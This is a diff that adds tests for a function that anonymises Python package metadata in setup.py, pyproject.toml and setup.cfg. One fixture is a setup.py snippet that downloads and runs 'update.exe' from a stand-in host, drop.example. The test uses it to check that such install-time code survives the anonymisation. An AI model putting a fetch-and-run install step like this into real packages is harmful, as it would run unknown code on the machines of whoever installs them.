@@ -59,6 +59,27 @@ describe('blindFiles', () => {
     expect(textOf(blinded, 'setup.py')).not.toMatch(/foo|9\.9\.7|ann/i);
   });
 
+  it('keeps what setup.py does besides naming the distribution', () => {
+    const acts = "name = 'update.exe'\nurl = 'http://drop.example/x'\nrun(url=url, version=3)\n";
+    const [file] = blindFiles('foo', toFiles({ 'setup.py': `${acts}setup(name='foo', author='Ann')\n` }));
+
+    expect(Buffer.from(file?.bytes ?? []).toString()).toBe(`${acts}setup(name="subject", author="")\n`);
+  });
+
+  it('withholds the publisher in settings that are no code', () => {
+    const toml =
+      '[project]\nname = "foo"\nversion = "2.3"\nauthors = [{name = "Ann", email = "ann@mail.example"}]\n';
+    const cfg =
+      '[metadata]\nname = foo\nversion = 2.3\nauthor_email = ann@mail.example\nurl = https://code.example\n';
+
+    const settings = blindFiles('foo', toFiles({ 'pyproject.toml': toml, 'setup.cfg': cfg }));
+
+    for (const path of ['pyproject.toml', 'setup.cfg']) {
+      expect(textOf(settings, path)).toContain(BLIND_NAME);
+      expect(textOf(settings, path)).not.toMatch(/foo|2\.3|ann|code\.example/i);
+    }
+  });
+
   it('keeps a word of the code that no module of the package has', () => {
     const [file] = blindFiles('build', toFiles({ 'setup.py': 'import build\nbuild.run()\n' }));
 
